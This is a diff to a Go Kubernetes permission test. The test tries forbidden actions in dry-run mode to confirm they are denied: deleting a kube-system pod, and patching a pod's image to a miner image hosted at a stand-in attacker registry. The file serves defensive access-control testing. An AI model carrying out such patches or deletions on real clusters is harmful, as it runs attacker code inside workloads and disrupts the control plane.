@@ -180,8 +180,12 @@ spec:
 				attempt("delete a kube-system pod", "take a control-plane component down", func(ctx context.Context, c kubernetes.Interface) error {
 					return c.CoreV1().Pods("kube-system").Delete(ctx, probe, dryDelete)
 				}),
-				patchTry("change the image of a pod it holds", "run another program as the pod",
-					collection("/api/v1/namespaces/"+ns+"/pods"), heldPod.Name, `{"spec":{"containers":[{"name":"main","image":"attacker.example/miner:1"}]}}`))
+				// A JSON patch: a merge patch would replace the whole containers list and drop the
+				// injected token mount, which the API server refuses whoever asks (a broken attempt).
+				attempt("change the image of a pod it holds", "run another program as the pod", func(ctx context.Context, c kubernetes.Interface) error {
+					return c.CoreV1().RESTClient().Patch(types.JSONPatchType).AbsPath("/api/v1/namespaces/"+ns+"/pods", heldPod.Name).
+						Param("dryRun", metav1.DryRunAll).Body([]byte(`[{"op":"replace","path":"/spec/containers/0/image","value":"attacker.example/miner:1"}]`)).Do(ctx).Error()
+				}))
 		}
 	}
 	// The identities' own writes (dry-run): each must stay allowed.
